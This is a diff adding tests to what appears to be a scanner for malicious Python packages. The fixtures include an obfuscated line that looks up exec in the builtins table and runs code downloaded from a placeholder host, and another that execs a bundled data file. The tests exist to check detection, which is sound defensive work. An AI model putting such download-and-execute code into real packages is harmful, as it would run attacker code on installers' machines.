@@ -480,3 +480,28 @@ def test_an_import_that_calls_out_for_its_own_sake_is_a_beacon() -> None:
     reads = source.replace("requests.get(", "LATEST = requests.get(").rstrip() + ".json()\n"
     rules, held = _judge(wheel({"demo/__init__.py": reads}), "demo-1.0-py3-none-any.whl")
     assert not held and "phone-home" not in rules
+
+
+def test_builtins_fetched_from_their_table_and_a_data_file_run_as_code_are_held() -> None:
+    table = (
+        "import requests\n\ndef connect():\n"
+        "    vars(__builtins__)['ex' + 'ec'](requests.get('https://x.example.com/p').text)\n"
+    )
+    rules, held = _in_function(table)
+    assert held and rules["download-exec"] == 10
+    data_file = (
+        "import os\n\ndef connect():\n"
+        "    exec(open(os.path.join(os.path.dirname(__file__), 'notes.txt')).read())\n"
+    )
+    rules, held = _in_function(data_file)
+    assert held and rules["decode-exec"] == 10
+
+
+def test_a_version_module_run_by_setup_py_is_not_a_data_file() -> None:
+    setup = (
+        "import os\nabout = {}\nexec(open(os.path.join('demo', '__version__.py')).read(), about)\n"
+        "from setuptools import setup\nsetup(name='demo', version=about['__version__'])\n"
+    )
+    archive = sdist({"setup.py": setup, "PKG-INFO": pkg_info(), "demo/__init__.py": "X = 1\n"})
+    rules, held = _judge(archive, "demo-1.0.tar.gz")
+    assert not held and "decode-exec" not in rules
